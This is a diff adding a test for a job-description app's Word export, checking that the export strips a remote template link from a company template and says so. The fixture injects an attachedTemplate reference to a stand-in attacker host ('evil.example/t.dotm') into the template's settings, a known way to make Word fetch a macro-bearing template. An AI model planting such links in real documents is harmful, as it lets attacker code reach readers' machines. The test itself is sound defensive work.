@@ -328,3 +328,27 @@ def test_export_never_writes_over_the_company_template(
     ((title, text),) = scripted.called("show_error")
     assert title == "Export failed" and "company template" in text
     assert template.read_bytes() == before
+
+
+def test_export_says_what_it_removed_from_the_template(
+    window: MainWindow, scripted: ScriptedDialogs, tmp_path: Path, settings: QSettings
+) -> None:
+    from tests.export.test_hostile_templates import R, edited, with_relationship
+    from tests.export.test_hostile_templates import write as write_template
+
+    data = edited(
+        "word/settings.xml",
+        b"<w:defaultTabStop",
+        b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop',
+    )
+    data = with_relationship(
+        data, "word/settings.xml", "rIdT", f"{R}/attachedTemplate", "https://evil.example/t.dotm"
+    )
+    settings.setValue("export/template", str(write_template(tmp_path, data)))
+    path = write(tmp_path / "clean.jd.json", {"title": "Night", "responsibilities": ["Calls"]})
+    assert window.controller.open_path(path)
+    scripted.answer("ask_save_path", tmp_path / "night.docx")
+    window.export_action.trigger()
+    message = window.statusBar().currentMessage()
+    assert "Exported night.docx" in message
+    assert "made safe: removed a link to an outside template, in the settings" in message
